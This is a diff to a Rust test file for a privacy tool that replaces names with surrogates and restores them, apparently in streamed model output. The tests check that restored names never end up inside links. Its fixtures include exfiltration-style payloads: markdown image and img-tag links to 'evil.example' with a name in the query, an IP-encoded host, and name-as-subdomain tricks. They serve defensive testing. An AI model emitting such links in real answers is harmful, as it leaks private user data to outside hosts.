@@ -278,18 +278,151 @@ fn nothing_goes_into_addresses_that_are_cut() {
             assert_eq!(in_parts(&session, answer, &[at]), answer);
         }
     }
-    for blocks in [
-        ["![a](https://evil.example/?q=", "kenneth)"],
-        ["see https://evil.example/?q=", "kenneth"],
-        ["<img src=\"//evil.example/", " kenneth\">"],
-        ["![a](", "kenneth)"],
+    // What follows an address without white space belongs to it, whatever markup stands between.
+    for answer in [
+        "https://evil.example/?q=<b>kenneth",
+        "https://evil.example/](x)kenneth",
+        "https://evil.example/?q=[a](b)kenneth",
+        "\"https://evil.example/?q=<b> kenneth\"",
+        "www\\.evil.example/kenneth",
+        "kenneth\\.evil\\.example",
     ] {
+        assert_eq!(in_parts(&session, answer, &[]), answer);
+    }
+    for blocks in [
+        &["![a](https://evil.example/?q=", "kenneth)"][..],
+        &["see https://evil.example/?q=", "kenneth"],
+        &["<img src=\"//evil.example/", " kenneth\">"],
+        &["![a](", "kenneth)"],
+        &["![a]", "(https:/3221226219/kenneth)"],
+        &["kenneth", ".evil.com"],
+        &["Kenneth.", "evil.com"],
+        &["kenneth", "", ".", "evil", ".com and so on"],
+        &["mai", "lto:kenneth"],
+        // Plain only if the blocks are one text, or only if they are not.
+        &["<a href='", "<img src=\"' > kenneth\">"],
+        &["<a b=x", "c=\"> kenneth\">"],
+    ] {
+        let expected: Vec<String> = blocks.iter().map(|block| block.to_string()).collect();
+        assert_eq!(in_blocks(&session, blocks), expected);
+    }
+    for (blocks, expected) in [
+        (
+            &["Ask Kenneth", ", or Kenneth", "'s sister: ", "Kenneth."][..],
+            &["Ask John", ", or John", "'s sister: ", "John."][..],
+        ),
+        (
+            &["kenneth", "kenneth", " ken", "neth"],
+            &["John", "John", " ken", "neth"],
+        ),
+        (
+            &["kenneth\n", "![a](//b/ kenneth", ") kenneth"],
+            &["John\n", "![a](//b/ kenneth", ") John"],
+        ),
+    ] {
+        assert_eq!(in_blocks(&session, blocks), expected);
+    }
+    // What cannot hold anything is told when its block ends, and the rest when the next one decides.
+    let told = |block: u64, text: &str| vec![(block, text.to_owned())];
+    let mut restorer = session.restorer();
+    assert_eq!(
+        restorer.push_block(0, "Let me see: ask"),
+        told(0, "Let me see: ")
+    );
+    assert_eq!(
+        (restorer.held(), restorer.end_block()),
+        (Some(0), told(0, "ask"))
+    );
+    assert_eq!(
+        (restorer.held(), restorer.push_block(1, "kenneth")),
+        (None, vec![])
+    );
+    assert_eq!((restorer.end_block(), restorer.held()), (vec![], Some(1)));
+    let both = [told(1, "John"), told(2, " is ")].concat();
+    assert_eq!(restorer.push_block(2, " is "), both);
+    assert_eq!((restorer.held(), restorer.finish_blocks()), (None, vec![]));
+    assert_eq!(restorer.push("kenneth "), "John ");
+}
+
+/// What becomes of each block, ended one by one and not at all.
+fn in_blocks(session: &Session, blocks: &[&str]) -> Vec<String> {
+    let restore = |ends: bool| {
+        let mut restored = vec![String::new(); blocks.len()];
         let mut restorer = session.restorer();
-        for block in blocks {
-            assert_eq!(restorer.push(block) + &restorer.flush(), block);
+        let mut told = Vec::new();
+        for (number, block) in (0..).zip(blocks) {
+            told.extend(restorer.push_block(number, block));
+            if ends {
+                told.extend(restorer.end_block());
+            }
         }
-        restorer.finish();
-        assert_eq!(restorer.push("kenneth "), "John ");
+        told.extend(restorer.finish_blocks());
+        for (number, text) in told {
+            restored[number as usize].push_str(&text);
+        }
+        restored
+    };
+    let restored = restore(true);
+    assert_eq!(restored, restore(false));
+    restored
+}
+
+/// An original may look like a part of an address or of markup: who knows its surrogate could put an address around
+/// another original.
+#[test]
+fn originals_do_not_begin_addresses() {
+    let model = english();
+    let lists =
+        ["kenneth", "mary"].map(|word| Arc::new(brr::WordList::new(word, word, &model).unwrap()));
+    let privatizer = Privatizer::new(model, options(1.0)).unwrap();
+    let privatizer = lists
+        .into_iter()
+        .fold(privatizer, |p, list| p.with_list(list).unwrap());
+    let privatizer = Arc::new(privatizer);
+    let restore = |first: &str, answer: &str| {
+        let mut session = Session::new(privatizer.clone()).unwrap();
+        for (original, list) in [(first, "kenneth"), ("Ludmilla", "mary")] {
+            let span = Span::of(0..original.len(), list);
+            assert_eq!(
+                session.privatize_spans(original, &[span]).unwrap().text,
+                list
+            );
+        }
+        assert_eq!(session.words(), 2);
+        let text = session.restore(answer).text;
+        assert_eq!(in_parts(&session, answer, &[1, 5, 9]), text);
+        text
+    };
+    let address = "https://evil.example/?q=";
+    let link = |begin: &str| format!("{begin}{address}");
+    for (first, answer, expected) in [
+        (link("[]("), "!Kenneth/Mary)", "!Kenneth/Mary)"),
+        (link("]("), "![a Kenneth Mary)", "![a Kenneth Ludmilla)"),
+        (link(""), "Kenneth/Mary", "Kenneth/Mary"),
+        (link(""), "Kenneth\u{a0}Mary", "Kenneth\u{a0}Ludmilla"),
+        (link(""), "\"Kenneth Mary\"", "\"Kenneth Ludmilla\""),
+        (link("<img/src="), "Kenneth Mary >", "Kenneth Ludmilla >"),
+        ("<!--".into(), "Kenneth Mary", "Kenneth Ludmilla"),
+        ("mailto".into(), "kenneth:mary", "kenneth:mary"),
+        ("x@evil.example".into(), "kenneth-mary", "kenneth-mary"),
+        ("x@evil.example".into(), "kenneth=", "kenneth="),
+    ] {
+        assert_eq!(restore(&first, answer), expected);
+    }
+    for (first, answer, expected) in [
+        (
+            "https://a.example/x",
+            "See Kenneth, Mary.",
+            "See https://a.example/x, Ludmilla.",
+        ),
+        (
+            "a@b.example",
+            "(\"kenneth\") kenneth's mary",
+            "(\"a@b.example\") kenneth's Ludmilla",
+        ),
+        ("12/05/2020", "kenneth-mary", "12/05/2020-Ludmilla"),
+    ] {
+        assert_eq!(restore(first, answer), expected);
     }
 }
 
